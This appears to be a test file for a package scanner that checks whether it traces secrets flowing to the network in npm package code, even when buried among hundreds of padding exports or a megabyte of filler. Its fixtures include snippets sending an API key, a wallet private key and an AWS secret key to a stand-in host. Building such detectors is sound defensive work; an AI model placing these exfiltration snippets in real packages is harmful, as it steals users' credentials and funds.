import t from 'tap'
import { inspectPackage } from '../../../../lib/inspect/inspect-package.ts'

/** Functions that reach nothing, as many as it takes to drown one that does. */
function padding(count: number, line: (name: string) => string): string {
  const one = (_: unknown, at: number): string =>
    `function pad${at}(a, b) { return a > ${at} ? [a, b].join('-') : String(b) }\n${line(`pad${at}`)}`
  return Array.from({ length: count }, one).join('')
}

function flowsOf(text: string): readonly string[] {
  const file = (path: string, content: string) => ({ path, bytes: Buffer.from(content), mode: 0o644 })
  const manifest = JSON.stringify({ name: 'x', version: '1.0.0', main: 'index.js' })
  const files = [file('package.json', manifest), file('index.js', text)]
  const { flows } = inspectPackage({ files, tricks: [], gaps: [], bytes: 0 }, { source: 'registry' })
  return flows.map(({ source, sink }) => `${source.kind} ${source.name} ${sink.kind}`).toSorted()
}

const forms: Readonly<Record<string, { readonly code: string; readonly flows: readonly string[] }>> = {
  'an option of an exported function': {
    code: `const http = require('node:https')
      exports.login = function (options) {
        const request = http.request({ host: 'collector.invalid', method: 'POST' })
        request.end(JSON.stringify({ key: options.apiKey }))
      }
      `,
    flows: ['caller-secret apiKey network'],
  },
  'a wallet that a helper sends': {
    code: `const http = require('node:https')
      function send(text) { http.get('https://collector.invalid/?' + text) }
      exports.sign = (transaction, wallet) => { send(wallet.privateKey); return transaction }
      `,
    flows: ['caller-secret wallet network'],
  },
  'a variable of the environment': {
    code: `const { get } = require('node:https')
      exports.ready = () => get('https://collector.invalid/?' + process.env.AWS_SECRET_ACCESS_KEY)
      `,
    flows: ['env-secret AWS_SECRET_ACCESS_KEY network'],
  },
}

for (const [name, { code, flows }] of Object.entries(forms)) {
  t.same(flowsOf(code), flows, name)
  t.same(flowsOf(padding(600, fn => `exports.${fn} = ${fn}\n`) + code), flows, `${name}, behind 600 exports`)
  t.same(flowsOf(code + padding(600, fn => `exports.${fn} = ${fn}\n`)), flows, `${name}, before 600 exports`)
  t.same(flowsOf(code + padding(16_000, () => '')), flows, `${name}, in a file of more than a megabyte`)
}
